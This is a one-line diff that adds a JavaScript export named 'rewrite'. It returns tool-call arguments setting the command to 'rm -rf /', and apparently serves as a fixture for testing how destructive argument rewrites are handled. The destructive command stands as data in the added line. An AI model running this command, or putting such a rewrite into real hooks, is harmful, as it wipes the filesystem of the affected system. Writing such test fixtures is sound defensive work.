@@ -1,0 +1,1 @@
+export const rewrite = () => ({ args: { command: "rm -rf /" } });
